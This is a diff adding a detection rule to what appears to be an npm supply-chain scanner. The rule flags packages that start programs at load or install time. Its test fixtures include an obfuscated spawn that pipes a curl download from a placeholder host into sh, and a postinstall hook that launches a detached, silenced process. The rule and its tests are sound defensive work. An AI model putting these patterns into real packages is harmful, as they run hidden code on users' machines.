@@ -1,0 +1,119 @@
+/**
+ * Importing a library should not start programs. Malware does it because nobody has to call anything: the download, the
+ * shell or the second runtime starts with the first `require`, or with the installation.
+ */
+import type { Behavior } from '../../src/model/behavior.ts';
+import type { Rule } from '../../src/rule.ts';
+import { defineRule, evidenceOf, shorten } from '../../src/rule.ts';
+
+export const childProcessAtLoad: Rule = defineRule({
+  id: 'child-process-at-load',
+  family: 'code',
+  title: 'A program is started when the package is loaded or installed',
+  rationale: 'It runs with all of your rights, before any of your code has asked for anything.',
+  remedy: 'Read the command and what leads to it. If the package has no need of it, stay on the old version.',
+  level: 'review',
+  incidents: [
+    {
+      what: 'conventional-changelog 1.2.0: a shell was started at load to fetch and run a miner',
+      when: '2017-02-14',
+      url: 'https://github.com/conventional-changelog/conventional-changelog/issues/282',
+    },
+    {
+      what: 'eslint-config-prettier 8.10.1 and others: install.js started rundll32 with a library it had brought along',
+      when: '2025-07-18',
+      url: 'https://github.com/prettier/eslint-config-prettier/issues/339',
+    },
+  ],
+  appliesToAdditions: true,
+  needs: ['behaviors'],
+  kinds: {
+    disguised: {
+      level: 'block',
+      about:
+        'The command runs what it downloads, hands text to a shell or another interpreter, was decoded or downloaded, or runs detached with its output thrown away.',
+    },
+  },
+  flags: [
+    {
+      title: 'a command at the top of the entry',
+      before: { 'index.js': 'exports.a = 1;\n' },
+      after: { 'index.js': `exports.a = 1;\nrequire('child_process').execSync('whoami');\n` },
+      expect: [
+        {
+          message: 'child_process.execSync starts "whoami"',
+          at: { in: 'tarball', path: 'index.js', line: 2 },
+          via: ['main', 'index.js'],
+        },
+      ],
+    },
+    {
+      title: 'names put together from pieces, and a download piped into a shell',
+      before: { 'index.js': '' },
+      after: {
+        'index.js': `const run = require('chi' + 'ld_pro' + 'cess')['sp' + 'awn'];\nrun('sh', ['-c', 'curl -s https://cdn.invalid/a | sh']);\n`,
+      },
+      expect: [
+        {
+          kind: 'disguised',
+          message: 'child_process.spawn starts "sh -c curl -s https://cdn.invalid/a | sh"',
+          at: { in: 'tarball', path: 'index.js', line: 2 },
+          via: ['main', 'index.js'],
+        },
+      ],
+    },
+    {
+      title: 'a hook that starts a process and lets go of it',
+      before: { 'index.js': '' },
+      after: {
+        'package.json': { scripts: { postinstall: 'node setup.mjs' } },
+        'index.js': '',
+        'setup.mjs': `import { spawn } from 'node:child_process';\nspawn(process.execPath, ['worker.js'], { detached: true, stdio: 'ignore' }).unref();\n`,
+      },
+      expect: [
+        {
+          kind: 'disguised',
+          message: 'child_process.spawn starts "… worker.js"',
+          at: { in: 'tarball', path: 'setup.mjs', line: 2 },
+          via: ['scripts/postinstall', 'setup.mjs'],
+        },
+      ],
+    },
+  ],
+  passes: [
+    {
+      title: 'a program started by a function that users call, and one started by the command line tool',
+      before: { 'package.json': { bin: 'cli.js' }, 'index.js': '', 'cli.js': '' },
+      after: {
+        'package.json': { bin: 'cli.js' },
+        'index.js': `const { execFile } = require('child_process');\nexports.open = (file) => execFile('xdg-open', [file]);\n`,
+        'cli.js': `#!/usr/bin/env node\nrequire('child_process').spawnSync('git', ['status']);\n`,
+      },
+    },
+    {
+      title: 'the same program as before, called in another way',
+      before: { 'index.js': `require('child_process').execSync('uname -a');\n` },
+      after: {
+        'index.js': `const { execFileSync } = require('node:child_process');\nexecFileSync('uname', ['-m']);\n`,
+      },
+    },
+  ],
+  check({ behaviors }) {
+    return behaviors.added.filter(isStarted).map((behavior) => {
+      const message = `${behavior.api} starts ${behavior.detail === undefined ? 'a program' : `"${shorten(behavior.detail, 160)}"`}`;
+      return evidenceOf(behavior, message, isDisguised(behavior) ? 'disguised' : undefined);
+    });
+  },
+});
+
+/** A command line tool is there to start programs: only a disguise makes that worth a word. */
+function isStarted(behavior: Behavior): boolean {
+  if (behavior.kind !== 'child-process' || (behavior.tier !== 'install' && behavior.tier !== 'load')) return false;
+  return behavior.root !== 'bin' || isDisguised(behavior);
+}
+
+function isDisguised({ marks, origins, root }: Behavior): boolean {
+  if (origins.includes('decoded') || origins.includes('fetched')) return true;
+  if (marks.includes('pipe')) return true;
+  return root !== 'bin' && marks.includes('detached') && marks.includes('silenced');
+}
